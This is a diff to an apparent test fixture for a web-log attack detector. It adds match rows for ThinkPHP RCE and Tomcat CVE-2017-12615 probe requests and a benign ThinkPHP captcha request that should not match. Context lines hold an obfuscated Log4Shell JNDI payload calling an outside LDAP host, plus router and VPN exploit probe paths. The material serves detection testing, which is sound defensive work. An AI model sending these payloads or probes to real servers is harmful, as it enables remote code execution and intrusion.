@@ -340,6 +340,8 @@ export const webAccessMatch: MatchRow[] = [
     '${${::-j}nd${upper:\\xC4\\xB1}:ldap://198.51.100.7/a}',
     'Java upper-cases the dotless ı (logged by nginx as its bytes) to the I of jndi',
   ),
+  attack('POST /index.php?s=captcha HTTP/1.1', 'web-injection', 'thinkphp', 404, UA, "ThinkPHP 5.0's RCE"),
+  attack('PUT /1.jsp/ HTTP/1.1', 'web-probe', 'jsp upload', 404, UA, 'Tomcat CVE-2017-12615'),
   attack('POST /ctrlt/DeviceUpgrade_1 HTTP/1.1', 'web-probe', 'router exploit', 404, UA, 'Huawei HG532'),
   attack('GET /System/deviceInfo?auth=YWRtaW46MTEK HTTP/1.1', 'web-probe', 'router exploit', 404, UA, 'Hikvision'),
   attack('GET /remote/info HTTP/1.1', 'web-probe', 'exchange/vpn', 404, UA, 'FortiGate'),
@@ -486,6 +488,7 @@ export const webAccessNoMatch: NoMatchRow[] = [
   { line: access('GET /tags/shell HTTP/1.1', 404), from },
   { line: access('GET /id_ed25519.pub HTTP/1.1', 200, 'curl/8.5.0'), from: `${from}; a published public key` },
   { line: access('GET /search?q=how+to+edit+/etc/hosts HTTP/1.1', 200), from },
+  { line: access('GET /index.php?s=captcha HTTP/1.1', 200), from: `${from}; ThinkPHP's captcha image` },
 ];
 
 const APACHE_24 = '[Mon Nov 23 10:15:01.123456 2026]';
